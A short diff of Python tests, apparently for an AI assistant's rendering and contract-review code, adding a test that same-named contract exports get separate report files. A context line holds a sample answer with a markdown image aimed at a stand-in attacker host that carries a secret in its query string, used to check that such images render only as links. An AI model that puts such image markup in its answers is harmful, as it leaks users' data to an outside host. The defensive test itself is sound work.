@@ -725,3 +725,13 @@ def test_model_answers_show_markdown_images_as_links_only():
     turn = render.Turn("q", answer="Done ![x](https://evil.example/?q=secret) [1].", finished=True)
     shown = render.answer_markdown(turn)
     assert "![x]" not in shown and "[x](https://evil.example/?q=secret)" in shown
+
+
+def test_two_contracts_with_the_same_export_name_do_not_share_report_files(stores, tmp_path):
+    from assistant.tasks.contracts import ReviewReport
+
+    services = make_services(stores, tmp_path)
+    first = contracts.write_report(services, "s", ReviewReport("lease v1.pdf", ()), doc_id=1)
+    second = contracts.write_report(services, "s", ReviewReport("lease_v1.docx", ()), doc_id=2)
+    assert Path(first[0]).name == Path(second[0]).name == "lease_v1-review.md" and first[0] != second[0]
+    assert "lease v1.pdf" in Path(first[0]).read_text(encoding="utf-8")
